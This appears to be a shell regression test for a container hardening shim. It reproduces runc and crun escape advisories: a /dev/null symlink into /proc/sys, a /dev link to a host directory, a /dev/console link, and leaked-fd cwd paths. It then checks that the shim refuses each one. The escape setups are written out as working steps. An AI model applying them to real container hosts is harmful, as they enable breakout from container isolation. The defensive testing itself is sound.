#!/bin/sh
# The runtimes' own published escapes, reproduced with the plain runtime on
# this machine (or shown not to apply here, and why), and refused through
# hardshim by an admission rule whose message names the rule and the
# advisory, with the user namespace on (the default) and off. Every target
# is a throwaway file or directory this test creates; nothing of the host's
# is touched. Real images keep working.
. "$(dirname "$0")/lib.sh"

P_ON="{ \"audit_log\": { \"path\": \"$AUDIT\", \"syslog\": false } }"
P_OFF="{ \"audit_log\": { \"path\": \"$AUDIT\", \"syslog\": false }, \"userns\": { \"mode\": \"off\" } }"

# image NAME: a private copy of the busybox rootfs (the exploit edits it).
image () {
  make_rootfs
  rm -rf "$T/img-$1"
  cp -a "$ROOTFS" "$T/img-$1"
  echo "$T/img-$1"
}

# bundle NAME ROOTFS JQ_FILTER: a runc-spec bundle on ROOTFS ($ENV.VOL in
# the filter is $VOL).
bundle () {
  d=$T/b-$1
  rm -rf "$d"
  mkdir -p "$d"
  (cd "$d" && "$RUNC" spec)
  jq --arg root "$2" '.process.terminal = false | .root.path = $root | .root.readonly = false
                      | .process.args = ["true"]' "$d/config.json" | jq "$3" > "$d/c.json"
  mv "$d/c.json" "$d/config.json"
  echo "$d"
}

# audit_has FILTER: some record of the audit log matches the jq filter.
audit_has () { jq -c "select($1)" "$AUDIT" | grep -q .; }

# plain_run RUNTIME BUNDLE: the runtime alone, stdio on /dev/null.
plain_run () {
  (cd "$2" && real "$1" run "$(new_id plain)") </dev/null >/dev/null 2>"$T/plain.err"
}

# refused DESC RUNTIME BUNDLE RULE ADVISORY: through hardshim under both
# policies, exit 1 with the rule and the advisory in the message.
refused () {
  desc=$1 rt=$2 b=$3 rule=$4 adv=$5
  for pol in on off; do
    if [ $pol = on ]; then write_policy "$P_ON"; else write_policy "$P_OFF"; fi
    (cd "$b" && hs "$rt" run "$(new_id hs)") </dev/null >/dev/null 2>"$T/hs.err"
    rc=$?
    check "$desc: $rt, userns $pol: refused (exit 1)" [ $rc -eq 1 ]
    check "$desc: $rt, userns $pol: the message names rule $rule and $adv" \
      sh -c 'grep -q "control \`$1\`" "$3" && grep -q "$2" "$3"' sh "$rule" "$adv" "$T/hs.err"
  done
  write_policy "$P_ON"
}

# --- /dev/null a link (runc CVE-2025-31133; crun CVE-2026-88265) ---
# No /dev mount in the config, so the runtime uses the image's /dev: runc
# reopens stdio that is /dev/null through the container's /dev/null, which
# the image points at a file in a volume (with /proc/sys/kernel/core_pattern
# as the target that is host root; a volume file proves the redirect).
r=$(image null)
ln -s /vol/target "$r/dev/null"
mkdir -p "$T/null-vol"
export VOL="$T/null-vol"
b=$(bundle null "$r" '.mounts |= map(select(.destination != "/dev" and .destination != "/dev/pts"))
  | .mounts += [{"destination":"/vol","type":"bind","source":$ENV.VOL,"options":["rbind","rw"]}]
  | .process.args = ["sh","-c","echo written-through-dev-null"]')
: > "$T/null-vol/target"
plain_run runc "$b"
check "/dev/null link: plain runc writes the container's stdout into the link's target (affected)" \
  grep -q written-through-dev-null "$T/null-vol/target"
: > "$T/null-vol/target"
plain_run crun "$b"
check "/dev/null link: plain crun 1.8.1 does not reopen stdio through it (not affected by this form)" \
  [ ! -s "$T/null-vol/target" ]
ln -sfn /vol/target "$r/dev/null" # the plain runs may have replaced nodes next to it
for rt in runc crun; do
  : > "$T/null-vol/target"
  refused "/dev/null link" $rt "$b" rootfs_shape CVE-2025-31133
  check "/dev/null link: $rt through hardshim: the target is untouched" [ ! -s "$T/null-vol/target" ]
done

# The /proc/sys form: the link points at /proc/sys/kernel/hostname, a
# sysctl of the container's own UTS namespace (harmless; core_pattern is the
# same write on the host's), with /proc/sys left writable by the config.
# runc reopens every stdio fd whose st_rdev matches the image's "/dev/null"
# (0 for a procfs file, a regular file or a pipe alike), so stdout becomes
# a writable handle on the sysctl; the container reads it back into a volume.
ln -sfn /proc/sys/kernel/hostname "$r/dev/null"
jq '.linux.readonlyPaths |= map(select(. != "/proc/sys"))
    | .process.args = ["sh","-c","echo pwned-via-dev-null; cat /proc/sys/kernel/hostname > /vol/seen"]' \
  "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
host_name=$(hostname)
: > "$T/null-vol/seen"
plain_run runc "$b"
check "/dev/null -> /proc/sys: plain runc writes the container's stdout into the sysctl (affected)" \
  grep -q pwned-via-dev-null "$T/null-vol/seen"
check "/dev/null -> /proc/sys: ... the host's own hostname is untouched" [ "$(hostname)" = "$host_name" ]
ln -sfn /proc/sys/kernel/hostname "$r/dev/null"
for rt in runc crun; do
  : > "$T/null-vol/seen"
  refused "/dev/null -> /proc/sys" $rt "$b" rootfs_shape CVE-2025-31133
  check "/dev/null -> /proc/sys: $rt through hardshim: nothing ran" [ ! -s "$T/null-vol/seen" ]
done

# --- /dev a link to a host directory (runc CVE-2026-41579; crun makes nodes) ---
# With the usual tmpfs at /dev (runc spec): runc mounts the tmpfs inside the
# rootfs, then joins /dev/ptmx and the /dev/std* links to the rootfs path on
# the host, so they land in the link's target; crun creates its nodes there.
r=$(image devlink)
rm -rf "$r/dev"
host=$T/devlink-host
ln -s "$host" "$r/dev"
b=$(bundle devlink "$r" .)
rm -rf "$host"; mkdir -p "$host"; echo precious > "$host/ptmx"
plain_run runc "$b"
check "/dev link: plain runc deletes the host file ptmx and plants a link (affected)" [ -L "$host/ptmx" ]
check "/dev link: plain runc plants /dev/std* links in the host directory" [ -L "$host/stdout" ]
rm -rf "$host"; mkdir -p "$host"
plain_run crun "$b"
check "/dev link: plain crun creates device nodes in the host directory (affected)" [ -c "$host/null" ]
check "/dev link: ... world-writable" sh -c '[ "$(stat -c %a "$1")" = 666 ]' sh "$host/null"
for rt in runc crun; do
  rm -rf "$host"; mkdir -p "$host"; echo precious > "$host/ptmx"
  refused "/dev link" $rt "$b" rootfs_shape CVE-2026-41579
  check "/dev link: $rt through hardshim: the host directory is untouched" \
    sh -c '[ "$(ls -A "$1")" = ptmx ] && grep -q precious "$1/ptmx"' sh "$host"
done

# --- /dev/console a link (crun CVE-2026-88264) ---
# A terminal and no /dev mount: crun creates /dev/console without O_NOFOLLOW
# before pivot_root, so a root-owned file appears at the link's target on the
# host. runc binds the console after pivot_root: the host path stays absent.
r=$(image console)
planted=$T/console-planted
ln -s "$planted" "$r/dev/console"
b=$(bundle console "$r" '.process.terminal = true | .mounts |= map(select(.destination != "/dev"))')
rm -f "$planted"
(cd "$b" && script -qec "unshare -m --propagation private sh -c 'if mountpoint -q /sys/fs/cgroup/unified; then umount /sys/fs/cgroup/unified; fi; exec \"\$0\" --root \"\$1\" run \"\$2\"' '$CRUN' '$STATE/crun' '$(new_id plain)'" /dev/null) </dev/null >/dev/null 2>&1
check "/dev/console link: plain crun creates a root-owned file at the link's target (affected)" \
  sh -c '[ -f "$1" ] && [ "$(stat -c %u "$1")" = 0 ]' sh "$planted"
rm -f "$planted"
(cd "$b" && script -qec "unshare -m --propagation private '$RUNC' --root '$STATE/runc' run '$(new_id plain)'" /dev/null) </dev/null >/dev/null 2>&1
check "/dev/console link: plain runc leaves the host path alone (not affected: it binds the console after pivot_root)" \
  [ ! -e "$planted" ]
for rt in runc crun; do
  rm -f "$planted"
  refused "/dev/console link" $rt "$b" rootfs_shape CVE-2026-88264
  check "/dev/console link: $rt through hardshim: nothing is created at the target" [ ! -e "$planted" ]
done

# --- ordinary mount destinations through an image link: scoped by both ---
# runc (securejoin) and crun (openat2 RESOLVE_IN_ROOT) resolve a mount
# destination inside the rootfs, so rootfs_shape leaves such links alone
# unless they lead into /proc, /sys or /dev (unit tests).
r=$(image scoped)
ln -s "$T/scoped-host" "$r/data"
b=$(bundle scoped "$r" '.mounts += [{"destination":"/data/a/b","type":"tmpfs","source":"tmpfs"}]')
for rt in runc crun; do
  rm -rf "$T/scoped-host"
  plain_run $rt "$b"
  check "mount destination through an image link: plain $rt does not follow it to the host (not affected)" \
    [ ! -e "$T/scoped-host" ]
done

# --- a mount onto the runtime's /dev/null (fresh_dev) ---
echo data > "$T/fake-null"
export VOL="$T/fake-null"
b=$(bundle mountnull "$(image mountnull)" \
  '.mounts += [{"destination":"/dev/null","type":"bind","source":$ENV.VOL,"options":["bind"]}]')
for rt in runc crun; do
  refused "bind onto /dev/null" $rt "$b" fresh_dev CVE-2025-31133
done

# --- process.cwd and args[0] through /proc (runc CVE-2024-21626) ---
# runc up to 1.1.11 leaked a host directory fd into the container: cwd
# /proc/self/fd/N started the process in the host's tree. This runc is
# Debian's 1.1.5+ds1-1+deb12u1, which backports the fix (its changelog says
# so): every such cwd fails to start here, so it is not affected. crun never
# leaked those fds (the advisory is runc's).
r=$(image cwd)
b=$(bundle cwd "$r" '.process.args = ["sh","-c","ls ../../../"]')
affected=0
for n in 3 4 5 6 7 8 9; do
  jq --arg c "/proc/self/fd/$n" '.process.cwd = $c' "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
  plain_run runc "$b" && affected=1
done
check "cwd /proc/self/fd/N: plain runc starts no such container (not affected: Debian backports the CVE-2024-21626 fix)" \
  [ $affected -eq 0 ]
if [ -r /usr/share/doc/runc/changelog.Debian.gz ]; then
  check "... the runc package's changelog names the backport" \
    sh -c 'zcat /usr/share/doc/runc/changelog.Debian.gz | grep -q CVE-2024-21626'
fi
jq '.process.cwd = "/proc/self/fd/7"' "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
for rt in runc crun; do refused "cwd /proc/self/fd/7" $rt "$b" cwd_clean CVE-2024-21626; done
ln -s /proc/self/fd/7 "$r/work"
jq '.process.cwd = "/work"' "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
for rt in runc crun; do refused "cwd through an image link into /proc" $rt "$b" cwd_clean CVE-2024-21626; done
# the same link in a volume (planted by another container sharing it)
mkdir -p "$T/cwd-vol"
ln -s /proc/self/fd/7 "$T/cwd-vol/w"
export VOL="$T/cwd-vol"
jq '.process.cwd = "/data/w" | .mounts += [{"destination":"/data","type":"bind","source":$ENV.VOL,"options":["rbind"]}]' \
  "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
for rt in runc crun; do refused "cwd through a link in a volume into /proc" $rt "$b" cwd_clean CVE-2024-21626; done
jq '.mounts |= map(select(.destination != "/data"))' "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
jq '.process.cwd = "/" | .process.args = ["/proc/self/fd/7/../../../../bin/sh", "-c", "true"]' \
  "$b/config.json" > "$b/c.json" && mv "$b/c.json" "$b/config.json"
for rt in runc crun; do refused "args[0] through a leaked fd" $rt "$b" exec_path CVE-2024-21626; done

# exec: --cwd, the command and process files
b=$(bundle exec "$(image exec)" '.process.args = ["sleep","600"]')
for rt in runc crun; do
  id=$(new_id exec)
  (cd "$b" && hs $rt run -d "$id") </dev/null >/dev/null 2>"$T/err"
  check "exec: $rt container starts through hardshim" [ $? -eq 0 ]
  hs $rt exec "$id" true </dev/null 2>"$T/err"
  check "exec: $rt: a plain exec works" [ $? -eq 0 ]
  hs $rt exec --cwd /proc/self/fd/7 "$id" true </dev/null 2>"$T/err"
  check "exec: $rt --cwd /proc/self/fd/7 refused (exit 1)" [ $? -eq 1 ]
  check "exec: $rt --cwd: rule cwd_clean, CVE-2024-21626" \
    sh -c 'grep -q "control \`cwd_clean\`" "$1" && grep -q CVE-2024-21626 "$1"' sh "$T/err"
  hs $rt exec "$id" /proc/self/fd/7/../../../../bin/sh -c true </dev/null 2>"$T/err"
  check "exec: $rt argv through a leaked fd refused (rule exec_path)" \
    sh -c 'grep -q "control \`exec_path\`" "$1" && grep -q CVE-2024-21626 "$1"' sh "$T/err"
  printf '{"cwd":"/proc/1/cwd","args":["true"],"user":{"uid":0,"gid":0},"env":["PATH=/bin"]}\n' > "$T/proc.json"
  hs $rt exec --process "$T/proc.json" "$id" </dev/null 2>"$T/err"
  check "exec: $rt process file with cwd /proc/1/cwd refused (rule cwd_clean)" \
    sh -c 'grep -q "control \`cwd_clean\`" "$1"' sh "$T/err"
  real $rt kill "$id" KILL >/dev/null 2>&1
  sleep 0.2
  real $rt delete --force "$id" >/dev/null 2>&1
done

# exec into a runc-spec bundle (relative rootfs) whose container planted a
# link to its leaked fd: the image is read through the rootfs the
# runtime's state records (userns off: with it, the idmapped rootfs hardshim
# made lives only in the create's private mount namespace in this test)
write_policy "$P_OFF"
b=$T/b-relexec
rm -rf "$b"; mkdir -p "$b"
cp -a "$ROOTFS" "$b/rootfs"
ln -s /proc/self/fd/7 "$b/rootfs/w"
(cd "$b" && "$RUNC" spec)
jq '.process.terminal = false | .root.readonly = false | .process.args = ["sleep","600"]' "$b/config.json" > "$b/c.json"
mv "$b/c.json" "$b/config.json"
for rt in runc crun; do
  id=$(new_id relexec)
  (cd "$b" && hs $rt run -d "$id") </dev/null >/dev/null 2>"$T/err"
  check "exec, relative rootfs: $rt container starts" [ $? -eq 0 ]
  hs $rt exec --cwd /w "$id" true </dev/null 2>"$T/err"
  check "exec, relative rootfs: $rt --cwd through the container's link into /proc refused" \
    sh -c 'grep -q "control \`cwd_clean\`" "$1" && grep -q "symbolic link in the image" "$1"' sh "$T/err"
  real $rt kill "$id" KILL >/dev/null 2>&1
  sleep 0.2
  real $rt delete --force "$id" >/dev/null 2>&1
done
write_policy "$P_ON"

# --- userns off: the audit log says what the user namespace was covering ---
# With the advisory table: the advisories open for this runtime that list
# userns as a cover; without one, the built-in list.
ADV=$top_srcdir/profiles/advisories
write_policy "{ \"audit_log\": { \"path\": \"$AUDIT\", \"syslog\": false }, \"userns\": { \"mode\": \"off\" },
  \"runtime_advisories\": { \"mode\": \"audit\", \"dir\": \"$ADV\" } }"
b=$(bundle plain "$(image plain)" .)
: > "$AUDIT"
(cd "$b" && hs runc run "$(new_id off)") </dev/null >/dev/null 2>"$T/err"
check "userns off: a plain container runs" [ $? -eq 0 ]
check "userns off: the audit log names the open runc advisories the user namespace covered" \
  audit_has '.control == "userns_advisories" and .action == "note"
             and (.message | test("policy turns `userns` off"))
             and (.message | test("open advisories of the runtime \\(runc 1[.]1[.]5"))
             and (.message | test("CVE-2025-31133"))'
check "userns off: ... not those Debian's runc has a backport for (CVE-2024-21626)" \
  audit_has '.control == "userns_advisories" and (.message | test("CVE-2024-21626") | not)'
write_policy "$P_OFF"
: > "$AUDIT"
(cd "$b" && hs runc run "$(new_id off)") </dev/null >/dev/null 2>"$T/err"
check "userns off, no advisory table: the built-in list of what a user namespace covers" \
  audit_has '.control == "userns_advisories" and .action == "note"
             and (.message | test("CVE-2025-31133")) and (.message | test("CVE-2026-88264"))'
write_policy "$P_ON"
: > "$AUDIT"
(cd "$b" && hs runc run "$(new_id on)") </dev/null >/dev/null 2>"$T/err"
check "userns on: no such note" sh -c '! grep -q userns_advisories "$1"' sh "$AUDIT"

# --- a mount nested inside a bind volume: audit by default, enforce refuses ---
mkdir -p "$T/nest-vol/cache" # made by host root: mapped container root cannot mkdir there
export VOL="$T/nest-vol"
b=$(bundle nest "$(image nest)" \
  '.mounts += [{"destination":"/data","type":"bind","source":$ENV.VOL,"options":["rbind","rw"]},
               {"destination":"/data/cache","type":"tmpfs","source":"tmpfs"}]')
for rt in runc crun; do
  : > "$AUDIT"
  (cd "$b" && hs $rt run "$(new_id nest)") </dev/null >/dev/null 2>"$T/err"
  check "nested mount: $rt runs by default" [ $? -eq 0 ]
  check "nested mount: $rt: the audit log records what enforce would refuse" \
    audit_has '.control == "volume_nesting" and .action == "would-refuse"'
done
P_NEST="{ \"audit_log\": { \"path\": \"$AUDIT\", \"syslog\": false }, \"volume_nesting\": { \"mode\": \"enforce\" } }"
write_policy "$P_NEST"
(cd "$b" && hs runc run "$(new_id nest)") </dev/null >/dev/null 2>"$T/err"
check "nested mount: volume_nesting enforce refuses, naming CVE-2021-30465" \
  sh -c 'grep -q "control \`volume_nesting\`" "$1" && grep -q CVE-2021-30465 "$1"' sh "$T/err"
write_policy "$P_ON"

# --- real images keep working under every rule ---
for rt in runc crun; do
  for pol in on off; do
    if [ $pol = on ]; then write_policy "$P_ON"; else write_policy "$P_OFF"; fi
    b=$(bundle busybox "$ROOTFS" '.process.args = ["sh","-c","test -c /dev/null && test -d /dev/pts"]')
    (cd "$b" && hs $rt run "$(new_id bb)") </dev/null >/dev/null 2>"$T/err"
    check "busybox rootfs: $rt, userns $pol: runs" [ $? -eq 0 ]
  done
done
write_policy "$P_ON"
if deb=$(debian_rootfs 2>"$T/deb.err"); then
  for rt in runc crun; do
    b=$(bundle debian "$deb" '.root.readonly = true | .process.cwd = "/var/lib"
      | .process.args = ["sh","-c","test -c /dev/null && python3 -c \"print(1)\" >/dev/null"]')
    (cd "$b" && hs $rt run "$(new_id deb)") </dev/null >/dev/null 2>"$T/err"
    check "Debian rootfs: $rt through hardshim: runs (/bin -> usr/bin, real /dev nodes)" [ $? -eq 0 ]
  done
else
  not_ok "Debian rootfs: could not be built: $(tail -n 3 "$T/deb.err")"
fi

finish
